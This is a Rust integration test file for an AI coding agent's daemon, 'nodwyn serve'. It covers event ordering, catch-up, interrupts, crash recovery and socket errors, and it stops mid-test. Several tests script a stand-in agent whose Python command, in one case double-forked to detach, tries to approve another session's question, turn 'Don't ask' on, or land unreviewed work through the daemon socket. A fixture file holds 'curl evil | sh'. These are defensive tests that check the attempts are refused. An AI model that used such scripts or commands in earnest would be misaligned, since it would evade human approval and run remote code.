//! `nodwyn serve`: the built binary as a daemon on a real Unix socket, driven by clients that
//! speak the JSON-RPC wire by hand, with the stand-in model: clients on one session see the same
//! events in the same order, one that connects late with a cursor gets exactly what it missed,
//! a question is answered from another client, an interrupt ends one session's turn only, slow
//! git work holds nobody, and a daemon killed mid-turn loses nothing.

use std::collections::VecDeque;
use std::io::{BufRead, BufReader, Write};
use std::os::unix::fs::PermissionsExt;
use std::os::unix::net::UnixStream;
use std::path::{Path, PathBuf};
use std::process::{Child, Stdio};
use std::sync::mpsc;
use std::time::{Duration, Instant};

use nodwyn_standin::{StandIn, openai};
use nodwyn_tests::{TestEnv, users_said, write};
use serde_json::{Value, json};

/// A daemon started by the test, killed when dropped.
struct Daemon {
    child: Child,
    socket: PathBuf,
}

impl Daemon {
    fn start(env: &TestEnv, dir: &Path) -> Self {
        Self::start_at(env, dir, Some(env.root().join("run/d.sock")))
    }

    /// The daemon on `socket`, or where `nodwyn serve` listens by default.
    fn start_at(env: &TestEnv, dir: &Path, socket: Option<PathBuf>) -> Self {
        let mut args = vec!["serve".to_owned()];
        if let Some(socket) = &socket {
            args.extend(["--socket".to_owned(), socket.display().to_string()]);
        }
        let socket = socket.unwrap_or_else(|| env.daemon_socket());
        let args: Vec<&str> = args.iter().map(String::as_str).collect();
        let child = env
            .nodwyn_command(dir, &args)
            .stderr(Stdio::piped())
            .spawn()
            .unwrap();
        TestEnv::wait_for_daemon(&socket);
        Self { child, socket }
    }

    fn client(&self) -> Wire {
        Wire::connect(&self.socket)
    }

    /// Sends `signal` and waits for the daemon to end: its exit code and what it said.
    fn stop_with(mut self, signal: &str) -> (Option<i32>, String) {
        let pid = self.child.id().to_string();
        std::process::Command::new("kill")
            .args([&format!("-{signal}"), &pid])
            .status()
            .unwrap();
        let status = self.child.wait().unwrap();
        let mut said = String::new();
        if let Some(mut stderr) = self.child.stderr.take() {
            use std::io::Read;
            let _ = stderr.read_to_string(&mut said);
        }
        (status.code(), said)
    }
}

impl Drop for Daemon {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

/// One client connection, speaking the wire by hand.
struct Wire {
    stream: UnixStream,
    incoming: mpsc::Receiver<Value>,
    held: VecDeque<Value>,
    next: u64,
}

const WAIT: Duration = Duration::from_secs(60);

impl Wire {
    fn connect(socket: &Path) -> Self {
        let stream = UnixStream::connect(socket).unwrap();
        let reading = stream.try_clone().unwrap();
        let (arrived, incoming) = mpsc::channel();
        std::thread::spawn(move || {
            for line in BufReader::new(reading).lines() {
                let Ok(line) = line else { break };
                let message: Value = serde_json::from_str(&line).expect("every line is JSON");
                assert_eq!(message["jsonrpc"], "2.0", "{line}");
                if arrived.send(message).is_err() {
                    break;
                }
            }
        });
        Self {
            stream,
            incoming,
            held: VecDeque::new(),
            next: 1,
        }
    }

    fn send_line(&mut self, line: &str) {
        self.stream.write_all(line.as_bytes()).unwrap();
        self.stream.write_all(b"\n").unwrap();
    }

    /// The whole answer to `method` (`result` or `error`), other messages kept for later.
    fn call(&mut self, method: &str, params: Value) -> Value {
        let id = self.next;
        self.next += 1;
        let line = json!({"jsonrpc": "2.0", "id": id, "method": method, "params": params});
        self.send_line(&line.to_string());
        loop {
            let message = self.incoming.recv_timeout(WAIT).expect("an answer");
            if message.get("method").is_none() && message["id"] == id {
                return message;
            }
            self.held.push_back(message);
        }
    }

    /// The result of `method`, which must succeed.
    fn ok(&mut self, method: &str, params: Value) -> Value {
        let answer = self.call(method, params);
        assert!(answer.get("error").is_none(), "{method}: {answer}");
        answer["result"].clone()
    }

    /// Every message from the engine up to and including the first that `until` accepts.
    /// Starts a run with `params` (`run.start`) and subscribes to its session: the session.
    fn run_and_follow(&mut self, params: Value) -> String {
        let session = self.ok("run.start", params)["session"]
            .as_str()
            .unwrap()
            .to_owned();
        self.ok("session.subscribe", json!({"session": session}));
        session
    }

    fn until(&mut self, until: impl Fn(&Value) -> bool) -> Vec<Value> {
        let mut got = Vec::new();
        let deadline = Instant::now() + WAIT;
        loop {
            let message = match self.held.pop_front() {
                Some(message) => message,
                None => self
                    .incoming
                    .recv_timeout(deadline.saturating_duration_since(Instant::now()))
                    .unwrap_or_else(|_| panic!("timed out; got {got:#?}")),
            };
            let done = until(&message);
            got.push(message);
            if done {
                return got;
            }
        }
    }

    fn answer(&mut self, request: &str, decision: &str) {
        let line = json!({"jsonrpc": "2.0", "id": request, "result": {"decision": decision}});
        self.send_line(&line.to_string());
    }
}

fn is(method: &'static str) -> impl Fn(&Value) -> bool {
    move |m| m["method"] == method
}

/// The `seq` of each sequenced event (records; live events repeat the seq they follow).
fn record_seqs(messages: &[Value]) -> Vec<u64> {
    messages
        .iter()
        .filter(|m| {
            let method = m["method"].as_str().unwrap_or_default();
            !method.is_empty()
                && m.get("id").is_none()
                && ![
                    "item.started",
                    "item.delta",
                    "approval.resolved",
                    "session.worktree",
                    "resync",
                ]
                .contains(&method)
        })
        .map(|m| m["params"]["seq"].as_u64().unwrap())
        .collect()
}

/// The person's configuration: profiles `default`, and `a` and `b` on `servers`.
/// A model whose one answer writes `notes.txt`, a call the guard asks about in the checkout.
fn writes_a_note() -> StandIn {
    StandIn::start(vec![openai::call(
        "fs-write",
        json!({"path": "notes.txt", "content": "hi\n"}),
    )])
}

fn configure(env: &TestEnv, servers: &[(&str, &StandIn)], extra: &str) {
    let mut text = String::new();
    for (name, server) in servers {
        let section = if *name == "default" {
            "[model]".to_owned()
        } else {
            format!("[models.{name}]")
        };
        text.push_str(&format!(
            "{section}\nprovider = \"openai\"\nbase_url = \"{}/v1\"\nname = \"scripted\"\n",
            server.url()
        ));
    }
    text.push_str(extra);
    write(&env.home().join(".config/nodwyn/config.toml"), &text);
}

#[test]
fn clients_see_one_order_a_late_one_catches_up_and_another_answers_the_question() {
    let env = TestEnv::new();
    let repo = env.repo("project");
    let model = StandIn::start(vec![
        openai::call("fs-list", json!({"path": "."})),
        openai::call("fs-write", json!({"path": "notes.txt", "content": "hi\n"})),
        openai::text("Wrote the note."),
    ]);
    configure(&env, &[("default", &model)], "");
    let daemon = Daemon::start(&env, &repo);
    let mut first = daemon.client();
    let mut second = daemon.client();
    let hello = first.ok("hello", json!({"client": "e2e"}));
    assert_eq!(hello["protocol"], 2);
    assert!(
        hello["methods"]
            .as_array()
            .unwrap()
            .contains(&json!("session.subscribe"))
    );

    let opened = first.ok("session.open", json!({"repo": repo, "worktree": "off"}));
    let session = opened["session"].as_str().unwrap().to_owned();
    first.ok("session.subscribe", json!({"session": session}));
    second.ok("session.subscribe", json!({"session": session}));
    first.ok(
        "turn.start",
        json!({"session": session, "text": "write a note"}),
    );

    // The turn waits at the write's question, asked of both clients.
    let first_seen = first.until(is("approval.request"));
    let second_seen = second.until(is("approval.request"));
    let question = first_seen.last().unwrap().clone();
    assert_eq!(question, *second_seen.last().unwrap());
    assert_eq!(question["params"]["session"], session);
    assert_eq!(question["params"]["turn"], 1);
    assert_eq!(question["params"]["kind"], "ordinary");
    assert!(
        question["params"]["call"]
            .as_str()
            .unwrap()
            .starts_with("1.")
    );
    assert!(
        question["params"]["effect"]["writes"][0]
            .as_str()
            .unwrap()
            .ends_with("notes.txt")
    );
    let request = question["id"].as_str().unwrap().to_owned();
    assert_eq!(record_seqs(&first_seen), record_seqs(&second_seen));

    // A third client comes in mid-turn with the cursor of an event the first saw.
    let seqs = record_seqs(&first_seen);
    let cursor = seqs[seqs.len() / 2];
    let mut third = daemon.client();
    third.ok(
        "session.subscribe",
        json!({"session": session, "after": cursor}),
    );
    let caught_up = third.until(is("approval.request"));
    assert_eq!(
        record_seqs(&caught_up),
        seqs.iter()
            .copied()
            .filter(|s| *s > cursor)
            .collect::<Vec<_>>(),
        "exactly the events after the cursor"
    );
    assert_eq!(
        caught_up.last().unwrap()["id"],
        request.as_str(),
        "the waiting question again"
    );

    // The second client answers; every client hears it was settled.
    second.answer(&request, "allow");
    let ended = |m: &Value| m["method"] == "turn.completed";
    let first_rest = first.until(ended);
    let second_rest = second.until(ended);
    let third_rest = third.until(ended);
    for rest in [&first_rest, &second_rest, &third_rest] {
        let resolved: Vec<&Value> = rest
            .iter()
            .filter(|m| m["method"] == "approval.resolved")
            .collect();
        assert_eq!(resolved.len(), 1, "{rest:#?}");
        assert_eq!(resolved[0]["params"]["request"], request.as_str());
        assert_eq!(resolved[0]["params"]["decision"], "allow");
        assert_eq!(rest.last().unwrap()["params"]["end"]["reason"], "finished");
    }
    assert_eq!(record_seqs(&first_rest), record_seqs(&second_rest));
    assert_eq!(record_seqs(&first_rest), record_seqs(&third_rest));
    assert_eq!(
        std::fs::read_to_string(repo.join("notes.txt")).unwrap(),
        "hi\n"
    );

    // What was sent live is what session.events reads, number for number.
    let mut live: Vec<u64> = record_seqs(&first_seen);
    live.extend(record_seqs(&first_rest));
    let events = first.ok("session.events", json!({"session": session}));
    let logged: Vec<u64> = events["events"]
        .as_array()
        .unwrap()
        .iter()
        .map(|e| e["seq"].as_u64().unwrap())
        .collect();
    assert_eq!(live, logged[..live.len()].to_vec());
    // Items carry the ids the live notifications named them by.
    let started: Vec<&str> = first_seen
        .iter()
        .chain(&first_rest)
        .filter(|m| m["method"] == "item.started")
        .map(|m| m["params"]["item"].as_str().unwrap())
        .collect();
    let completed: Vec<&str> = first_seen
        .iter()
        .chain(&first_rest)
        .filter(|m| m["method"] == "item.completed" && m["params"]["kind"] != "user_message")
        .map(|m| m["params"]["item"].as_str().unwrap())
        .collect();
    assert!(
        started.iter().all(|id| completed.contains(id)),
        "{started:?} {completed:?}"
    );
    let logged_items: Vec<&str> = events["events"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|e| e["record"]["type"] == "conversation.item")
        .map(|e| e["record"]["item"].as_str().unwrap())
        .collect();
    assert_eq!(
        completed,
        logged_items[1..].to_vec(),
        "the person's message is 1.1"
    );
}

#[test]
fn an_interrupt_ends_one_sessions_turn_and_the_other_runs_on() {
    let env = TestEnv::new();
    let repo = env.repo("project");
    let sleeper = |seconds: u32| {
        openai::call(
            "shell-exec",
            json!({"argv": ["sleep", seconds.to_string()]}),
        )
    };
    let a = StandIn::start(vec![sleeper(60), openai::text("a is done")]);
    let b = StandIn::start(vec![sleeper(8), openai::text("b is done")]);
    configure(&env, &[("default", &a), ("a", &a), ("b", &b)], "");
    let daemon = Daemon::start(&env, &repo);
    let mut client = daemon.client();
    let mut sessions = Vec::new();
    for model in ["a", "b"] {
        let started = client.ok(
            "run.start",
            json!({"repo": repo, "task": "wait", "worktree": "always", "model": model}),
        );
        let session = started["session"].as_str().unwrap().to_owned();
        client.ok("session.subscribe", json!({"session": session, "after": 0}));
        sessions.push(session);
    }
    // Both commands run at once (each asked first: commands ask unless a standing answer
    // allows them, and this client allows every question of both sessions). The allowed
    // decisions are records, so a subscribe after a call began still hears of them.
    let mut allowed = std::collections::BTreeSet::new();
    while allowed.len() < 2 {
        let seen = client.until(|m| {
            (m["method"] == "session.record"
                && m["params"]["record"]["type"] == "guard.decision"
                && m["params"]["record"]["answer"] == "allow")
                || m["method"] == "approval.request"
                || m["method"] == "turn.completed"
        });
        let last = seen.last().unwrap();
        assert_ne!(last["method"], "turn.completed", "{seen:#?}");
        if last["method"] == "approval.request" {
            let request = last["id"].as_str().unwrap().to_owned();
            client.answer(&request, "allow");
        } else {
            allowed.insert(last["params"]["session"].as_str().unwrap().to_owned());
        }
    }
    let again = client.call(
        "turn.start",
        json!({"session": sessions[0], "text": "more"}),
    );
    assert_eq!(again["error"]["data"]["code"], "turn_running", "{again}");

    let interrupted_at = Instant::now();
    let answer = client.ok("turn.interrupt", json!({"session": sessions[0]}));
    assert_eq!(answer["interrupted"], true);
    let mut ends = Vec::new();
    let seen =
        client.until(|m| m["method"] == "turn.completed" && m["params"]["session"] == sessions[0]);
    assert!(interrupted_at.elapsed() < Duration::from_secs(20));
    for message in &seen {
        if message["method"] == "turn.completed" {
            ends.push(message["params"]["session"].clone());
        }
    }
    assert_eq!(ends, vec![json!(sessions[0])], "b's turn runs on");
    let last = seen.last().unwrap();
    assert_eq!(last["params"]["end"]["reason"], "interrupted");
    // b's eight-second command ends on its own, and its turn finishes.
    let rest =
        client.until(|m| m["method"] == "turn.completed" && m["params"]["session"] == sessions[1]);
    assert_eq!(
        rest.last().unwrap()["params"]["end"]["reason"],
        "finished",
        "{rest:#?}"
    );
    assert_eq!(
        client.ok("turn.interrupt", json!({"session": sessions[1]}))["interrupted"],
        false
    );
}

#[test]
fn a_slow_checkout_hook_holds_no_other_client() {
    let env = TestEnv::new();
    let repo = env.repo("project");
    let model = StandIn::start(vec![]);
    configure(&env, &[("default", &model)], "");
    write(
        &repo.join(".git/hooks/post-checkout"),
        "#!/bin/sh\nsleep 4\n",
    );
    std::fs::set_permissions(
        repo.join(".git/hooks/post-checkout"),
        std::fs::Permissions::from_mode(0o755),
    )
    .unwrap();
    let daemon = Daemon::start(&env, &repo);
    let slow = {
        let (socket, repo) = (daemon.socket.clone(), repo.clone());
        std::thread::spawn(move || {
            let mut client = Wire::connect(&socket);
            let started = Instant::now();
            let opened = client.ok("worktree.open", json!({"repo": repo, "name": "slow"}));
            (opened, started.elapsed())
        })
    };
    std::thread::sleep(Duration::from_millis(500));
    let mut other = daemon.client();
    let asked = Instant::now();
    other.ok("session.list", json!({"repo": repo}));
    let listed_in = asked.elapsed();
    let (opened, opened_in) = slow.join().unwrap();
    assert!(
        opened_in >= Duration::from_secs(4),
        "the hook ran: {opened_in:?}"
    );
    assert!(
        listed_in < Duration::from_secs(2),
        "session.list waited {listed_in:?}"
    );
    assert!(
        opened["branch"]
            .as_str()
            .unwrap()
            .starts_with("nodwyn/slow-")
    );
}

#[test]
fn a_daemon_killed_mid_turn_loses_nothing_and_the_next_one_resumes_the_session() {
    let env = TestEnv::new();
    let repo = env.repo("project");
    let model = writes_a_note();
    configure(&env, &[("default", &model)], "");
    let daemon = Daemon::start(&env, &repo);
    let mut client = daemon.client();
    let session =
        client.run_and_follow(json!({"repo": repo, "task": "write a note", "worktree": "off"}));
    let before = client.until(is("approval.request"));
    let (code, _) = daemon.stop_with("KILL");
    assert_eq!(code, None, "killed");

    let daemon = Daemon::start(&env, &repo);
    let mut client = daemon.client();
    client.ok("session.resume", json!({"session": session}));
    let events = client.ok("session.events", json!({"session": session}));
    let records: Vec<&Value> = events["events"].as_array().unwrap().iter().collect();
    // Everything the first daemon sent is in the log under the same numbers.
    for seq in record_seqs(&before) {
        assert!(records.iter().any(|e| e["seq"] == seq));
    }
    let last = records.last().unwrap();
    assert_eq!(last["record"]["type"], "turn.end", "{last}");
    assert_eq!(last["record"]["reason"], "interrupted");
    assert!(!repo.join("notes.txt").exists());
    // The session takes turns again.
    model.push([openai::text("Here again.")]);
    client.ok(
        "session.subscribe",
        json!({"session": session, "after": events["last"]}),
    );
    client.ok(
        "turn.start",
        json!({"session": session, "text": "are you there?"}),
    );
    let rest = client.until(is("turn.completed"));
    assert_eq!(rest.last().unwrap()["params"]["end"]["reason"], "finished");
    assert_eq!(
        rest[0]["params"]["seq"],
        events["last"].as_u64().unwrap() + 1
    );
}

#[test]
fn the_socket_is_private_one_daemon_listens_and_sigterm_ends_turns_and_exits_0() {
    let env = TestEnv::new();
    let repo = env.repo("project");
    let model = writes_a_note();
    configure(&env, &[("default", &model)], "");
    let daemon = Daemon::start(&env, &repo);
    let mode = |path: &Path| std::fs::metadata(path).unwrap().permissions().mode() & 0o777;
    assert_eq!(mode(&daemon.socket), 0o600);
    assert_eq!(mode(daemon.socket.parent().unwrap()), 0o700);
    let second = env
        .nodwyn(
            &repo,
            &["serve", "--socket", daemon.socket.to_str().unwrap()],
        )
        .failed_with(1);
    assert!(
        second.contains("another nodwyn serve is listening on") && second.contains("d.sock"),
        "{second}"
    );
    assert_eq!(second.lines().count(), 1, "{second}");

    // Bad input over the wire: one error each, and the connection goes on.
    let mut client = daemon.client();
    client.send_line("this is not json");
    let parse = client.until(|m| m.get("error").is_some());
    assert_eq!(parse[0]["error"]["code"], -32700);
    assert_eq!(
        client.call("session.explode", json!({}))["error"]["code"],
        -32601
    );
    let unknown = client.call("session.list", json!({"repo": repo, "colour": "red"}));
    assert_eq!(unknown["error"]["code"], -32602);
    assert!(
        unknown["error"]["message"]
            .as_str()
            .unwrap()
            .contains("colour"),
        "{unknown}"
    );
    let missing = client.call("session.events", json!({"session": "nosuch"}));
    assert_eq!(
        missing["error"]["data"]["code"], "no_such_session",
        "{missing}"
    );

    let session =
        client.run_and_follow(json!({"repo": repo, "task": "write a note", "worktree": "off"}));
    let asked = client.until(is("approval.request"));
    let request = asked.last().unwrap()["id"].clone();
    let socket = daemon.socket.clone();
    let (code, said) = daemon.stop_with("TERM");
    assert_eq!(code, Some(0), "{said}");
    assert!(!socket.exists(), "the socket is removed");
    let rest = client.until(is("turn.completed"));
    let resolved = rest
        .iter()
        .find(|m| m["method"] == "approval.resolved")
        .unwrap();
    assert_eq!(resolved["params"]["request"], request);
    assert_eq!(resolved["params"]["decision"], "cancel");
    assert_eq!(
        rest.last().unwrap()["params"]["end"]["reason"],
        "interrupted"
    );
    let types = env.record_types(&session[session.len() - 8..]);
    assert_eq!(types.last().unwrap(), "turn.end");
}

#[test]
fn a_question_nobody_answers_is_declined_at_the_configured_timeout_and_recorded() {
    let env = TestEnv::new();
    let repo = env.repo("project");
    let model = StandIn::start(vec![
        openai::call("fs-write", json!({"path": "notes.txt", "content": "hi\n"})),
        openai::text("Nobody answered."),
    ]);
    configure(
        &env,
        &[("default", &model)],
        "[serve]\napproval_timeout_seconds = 1\n",
    );
    let daemon = Daemon::start(&env, &repo);
    let mut client = daemon.client();
    let session =
        client.run_and_follow(json!({"repo": repo, "task": "write a note", "worktree": "off"}));
    let rest = client.until(is("turn.completed"));
    assert_eq!(rest.last().unwrap()["params"]["end"]["reason"], "finished");
    let resolved = rest
        .iter()
        .find(|m| m["method"] == "approval.resolved")
        .unwrap();
    assert_eq!(resolved["params"]["decision"], "decline");
    assert_eq!(resolved["params"]["reason"], "timed_out");
    assert!(env.has_record(&session[session.len() - 8..], "approval.timed_out"));
    assert!(!repo.join("notes.txt").exists());
}

/// What an agent's command runs to approve another session's question through the daemon.
/// `approve(socket, session)`: subscribes to `session` and allows the first question it sees.
const APPROVE: &str = r#"
import json, os, socket, sys
def approve(path, session):
    client = socket.socket(socket.AF_UNIX)
    client.connect(path)
    wire = client.makefile("rw")
    wire.write(json.dumps({"jsonrpc": "2.0", "id": 1, "method": "session.subscribe", "params": {"session": session}}) + "\n")
    wire.flush()
    for line in wire:
        message = json.loads(line)
        if message.get("method") == "approval.request":
            wire.write(json.dumps({"jsonrpc": "2.0", "id": message["id"], "result": {"decision": "allow"}}) + "\n")
            wire.flush()
            print("answered", message["id"], flush=True)
            break
"#;

/// Answers from the command's own process.
const DIRECTLY: &str = "approve(sys.argv[1], sys.argv[2])\n";

/// Answers from a grandchild in a session of its own whose parent has gone (a double fork),
/// so it no longer descends from the command; the command waits for it to finish.
const DETACHED: &str = r#"
done, finished = os.pipe()
if os.fork() == 0:
    os.setsid()
    middle = os.getpid()
    if os.fork() == 0:
        os.close(done)
        while os.getppid() == middle:
            pass
        print("reparented", flush=True)
        approve(sys.argv[1], sys.argv[2])
        os._exit(0)
    os._exit(0)
os.close(finished)
os.read(done, 1)
"#;

#[test]
fn an_agents_command_cannot_answer_a_question_through_the_daemon() {
    an_agents_command_answers_through_the_daemon(DIRECTLY);
}

/// A process the command detached (double fork, a session of its own) is still the command's:
/// orphans come back to the supervisor, the child subreaper of the command's tree.
#[test]
fn a_process_an_agents_command_detached_cannot_answer_a_question_either() {
    an_agents_command_answers_through_the_daemon(DETACHED);
}

/// An approved command whose program `answering` (after [`APPROVE`]) answers the question of
/// another session through the daemon: the answer does not count.
fn an_agents_command_answers_through_the_daemon(answering: &str) {
    let program = format!("{APPROVE}{answering}");
    let env = TestEnv::new();
    let repo = env.repo("project");
    let victim = StandIn::start(vec![
        openai::call(
            "fs-write",
            json!({"path": "notes.txt", "content": "pwned\n"}),
        ),
        openai::text("The write was declined."),
    ]);
    let attacker = StandIn::start(vec![]);
    // The person lets commands use Unix sockets, and approves the attacker's one command.
    configure(
        &env,
        &[
            ("default", &victim),
            ("victim", &victim),
            ("attacker", &attacker),
        ],
        "[sandbox]\nunix_sockets = true\n",
    );
    let daemon = Daemon::start(&env, &repo);
    let mut person = daemon.client();
    let victim_session = person.run_and_follow(
        json!({"repo": repo, "task": "write a note", "worktree": "off", "model": "victim"}),
    );
    let question = person.until(is("approval.request")).pop().unwrap();
    let request = question["id"].as_str().unwrap().to_owned();

    attacker.push([
        openai::call(
            "shell-exec",
            json!({"argv": ["python3", "-c", program, daemon.socket, victim_session]}),
        ),
        openai::text("Done."),
    ]);
    let attacker_session = person.run_and_follow(
        json!({"repo": repo, "task": "help", "worktree": "off", "model": "attacker"}),
    );
    let asked = person
        .until(|m| m["method"] == "approval.request" && m["params"]["session"] == attacker_session);
    person.answer(asked.last().unwrap()["id"].as_str().unwrap(), "allow");
    let attack = person
        .until(|m| m["method"] == "turn.completed" && m["params"]["session"] == attacker_session);
    let result = attack
        .iter()
        .find(|m| {
            m["method"] == "item.completed"
                && m["params"]["kind"] == "tool_result"
                && m["params"]["session"] == attacker_session
        })
        .unwrap();
    assert!(
        result["params"]["content"]
            .as_str()
            .unwrap()
            .contains(&format!("answered {request}")),
        "the command did send its answer: {result}"
    );
    assert!(
        !attack
            .iter()
            .any(|m| m["method"] == "approval.resolved"
                && m["params"]["request"] == request.as_str()),
        "{attack:#?}"
    );

    // The question still waits for the person, who declines it.
    person.answer(&request, "decline");
    let rest = person
        .until(|m| m["method"] == "turn.completed" && m["params"]["session"] == victim_session);
    let resolved = rest
        .iter()
        .find(|m| m["method"] == "approval.resolved")
        .unwrap();
    assert_eq!(resolved["params"]["decision"], "decline");
    assert!(!repo.join("notes.txt").exists());
}

/// What an agent's command runs to land a session and turn Don't ask on through the daemon:
/// prints each answer.
const PERSONS_OWN: &str = r#"
import json, socket, sys
client = socket.socket(socket.AF_UNIX)
client.connect(sys.argv[1])
wire = client.makefile("rw")
asks = [("session.dont_ask", {"session": sys.argv[2], "on": True}),
        ("session.land", {"session": sys.argv[2], "message": "landed by the agent"})]
for number, (method, params) in enumerate(asks, 1):
    wire.write(json.dumps({"jsonrpc": "2.0", "id": number, "method": method, "params": params}) + "\n")
    wire.flush()
    print(wire.readline().strip(), flush=True)
"#;

/// A daemon of `env` whose model (the attacker's stand-in) may use Unix sockets, a client of the
/// person, and a session the person opened in a worktree: the repository, the model, the
/// daemon, the person's client and what `session.open` answered.
fn a_persons_session_and_an_attacker(env: &TestEnv) -> (PathBuf, StandIn, Daemon, Wire, Value) {
    let repo = env.repo("project");
    let attacker = StandIn::start(vec![]);
    configure(
        env,
        &[("default", &attacker)],
        "[sandbox]\nunix_sockets = true\n",
    );
    let daemon = Daemon::start(env, &repo);
    let mut person = daemon.client();
    let opened = person.ok("session.open", json!({"repo": repo, "worktree": "always"}));
    (repo, attacker, daemon, person, opened)
}

/// Whether session `id`'s log records Don't ask turned on or off.
fn dont_ask_recorded(env: &TestEnv, repo: &Path, id: &str) -> bool {
    let events = env.nodwyn_json(repo, &["session", "events", id]);
    events
        .as_array()
        .unwrap()
        .iter()
        .any(|r| r["type"] == "session.dont_ask")
}

#[test]
fn an_agents_command_cannot_land_or_turn_dont_ask_on_through_the_daemon() {
    let env = TestEnv::new();
    let (repo, attacker, daemon, mut person, opened) = a_persons_session_and_an_attacker(&env);
    let target = opened["session"].as_str().unwrap().to_owned();
    // The person's session has work in its worktree that nobody reviewed.
    write(
        &Path::new(opened["root"].as_str().unwrap()).join("backdoor.sh"),
        "curl evil | sh\n",
    );
    env.git(Path::new(opened["root"].as_str().unwrap()), &["add", "."]);

    attacker.push([
        openai::call(
            "shell-exec",
            json!({"argv": ["python3", "-c", PERSONS_OWN, daemon.socket, target]}),
        ),
        openai::text("Done."),
    ]);
    let attacker_session =
        person.run_and_follow(json!({"repo": repo, "task": "help", "worktree": "off"}));
    let asked = person
        .until(|m| m["method"] == "approval.request" && m["params"]["session"] == attacker_session);
    person.answer(asked.last().unwrap()["id"].as_str().unwrap(), "allow");
    let attack = person
        .until(|m| m["method"] == "turn.completed" && m["params"]["session"] == attacker_session);
    let result = attack
        .iter()
        .find(|m| m["method"] == "item.completed" && m["params"]["kind"] == "tool_result")
        .unwrap();
    let said = result["params"]["content"].as_str().unwrap();
    assert_eq!(said.matches("not_a_person").count(), 2, "{said}");
    assert!(said.contains("may not turn Don't ask on or off"), "{said}");
    assert!(said.contains("may not land a session"), "{said}");

    // Nothing landed, and Don't ask was never recorded.
    assert!(!repo.join("backdoor.sh").exists());
    assert!(!dont_ask_recorded(&env, &repo, &target));
    // The person's own client may.
    let landed = person.ok(
        "session.land",
        json!({"session": target, "message": "Land it myself"}),
    );
    assert!(
        landed["summary"]
            .as_str()
            .unwrap()
            .starts_with("landed 1 commit(s)"),
        "{landed}"
    );
    assert!(repo.join("backdoor.sh").exists());
}

/// A command of another nodwyn engine (a `nodwyn run` of its own, as `nodwyn acp` and chat
/// are) is no person either, though it does not descend from the daemon.
#[test]
fn a_command_of_another_nodwyn_engine_cannot_turn_dont_ask_on_through_the_daemon() {
    let env = TestEnv::new();
    let (repo, model, daemon, _person, opened) = a_persons_session_and_an_attacker(&env);
    let target = opened["session"].as_str().unwrap().to_owned();

    // The run's one command is approved by a standing answer of the person's.
    write(
        &repo.join(".nodwyn/allow.toml"),
        "commands = [[\"python3\"]]\n",
    );
    model.push([
        openai::call(
            "shell-exec",
            json!({"argv": ["python3", "-c", PERSONS_OWN, daemon.socket, target]}),
        ),
        openai::text("Done."),
    ]);
    let run = env.nodwyn(&repo, &["run", "--no-worktree", "help"]);
    assert!(!dont_ask_recorded(&env, &repo, &target), "{}", run.stderr);
    let said = model.received()[1].body.to_string();
    assert_eq!(said.matches("not_a_person").count(), 2, "{said}");
}

/// A landing from another process waits for no turn: it is refused while one runs (an agent
/// writing would change what lands mid-landing), and goes through once the turn has ended.
#[test]
fn a_landing_is_refused_while_a_turn_runs_in_another_process() {
    let env = TestEnv::new();
    let (repo, model, daemon, mut person, opened) = a_persons_session_and_an_attacker(&env);
    let session = opened["session"].as_str().unwrap().to_owned();
    model.push([
        openai::call("fs-write", json!({"path": "notes.txt", "content": "hi\n"})),
        openai::text("Wrote it."),
    ]);
    person.ok("session.subscribe", json!({"session": session}));
    person.ok(
        "turn.start",
        json!({"session": session, "text": "write a note"}),
    );
    let question = person.until(is("approval.request")).pop().unwrap();

    // The turn waits for the person; a landing from the command line is refused meanwhile.
    let refused = env
        .nodwyn(&repo, &["land", &session, "-m", "Land it now"])
        .failed_with(1);
    assert!(
        refused.contains("a turn is running in session"),
        "{refused}"
    );

    person.answer(question["id"].as_str().unwrap(), "allow");
    person.until(|m| m["method"] == "turn.completed");
    let landed = env
        .nodwyn(&repo, &["land", &session, "-m", "Land it now"])
        .success();
    assert!(
        landed.stdout.contains("landed 1 commit(s)"),
        "{}",
        landed.stdout
    );
    drop(daemon);
}

/// What a terminal showed so far, read on a thread of its own.
struct Screen {
    shown: std::sync::Arc<std::sync::Mutex<Vec<u8>>>,
}

impl Screen {
    fn of(child: &mut Child) -> Self {
        use std::io::Read;
        let shown = std::sync::Arc::new(std::sync::Mutex::new(Vec::new()));
        let mut stdout = child.stdout.take().unwrap();
        let filling = std::sync::Arc::clone(&shown);
        std::thread::spawn(move || {
            let mut buffer = [0u8; 4096];
            while let Ok(n) = stdout.read(&mut buffer) {
                if n == 0 {
                    break;
                }
                filling.lock().unwrap().extend_from_slice(&buffer[..n]);
            }
        });
        Self { shown }
    }

    fn text(&self) -> String {
        String::from_utf8_lossy(&self.shown.lock().unwrap()).into_owned()
    }

    fn wait_for(&self, wanted: &str) -> String {
        let started = Instant::now();
        loop {
            let text = self.text();
            if text.contains(wanted) {
                return text;
            }
            assert!(
                started.elapsed() < WAIT,
                "waited for {wanted:?}; the terminal shows:\n{text}"
            );
            std::thread::sleep(Duration::from_millis(20));
        }
    }
}

#[test]
fn a_question_of_one_terminals_run_is_answered_from_another_terminals_chat() {
    let env = TestEnv::new();
    let repo = env.repo("project");
    let model = StandIn::start(vec![
        openai::call("fs-write", json!({"path": "notes.txt", "content": "hi\n"})),
        openai::text("Wrote the note."),
    ]);
    configure(&env, &[("default", &model)], "");
    let _daemon = Daemon::start_at(&env, &repo, None);

    let mut running =
        env.nodwyn_on_a_terminal(&repo, &["run", "--daemon", "--no-worktree", "write a note"]);
    let mut cleanup = KillOnDrop(vec![running.id()]);
    let run_screen = Screen::of(&mut running);
    run_screen.wait_for("[y/N/a] ");
    let logs = env.logs();
    let session = logs[0].0.trim_end_matches(".jsonl").to_owned();

    let mut joining = env.nodwyn_on_a_terminal(&repo, &["chat", "--daemon", "--resume", &session]);
    cleanup.0.push(joining.id());
    let chat_screen = Screen::of(&mut joining);
    let asked = chat_screen.wait_for("[y/N/a] ");
    assert!(asked.contains("fs-write"), "{asked}");
    std::thread::sleep(Duration::from_millis(100));
    let mut typing = joining.stdin.take().unwrap();
    typing.write_all(b"y\n").unwrap();

    let status = running.wait().unwrap();
    let shown = run_screen.text();
    assert!(status.success(), "{shown}");
    assert!(
        shown.contains("another client answered that question: allow"),
        "{shown}"
    );
    assert!(shown.contains("Wrote the note."), "{shown}");
    assert_eq!(
        std::fs::read_to_string(repo.join("notes.txt")).unwrap(),
        "hi\n"
    );

    chat_screen.wait_for("> ");
    typing.write_all(b"/exit\n").unwrap();
    assert!(joining.wait().unwrap().success(), "{}", chat_screen.text());
    // The run closed the session it opened; the chat that joined it closed nothing.
    let types = env.record_types(&session[session.len() - 8..]);
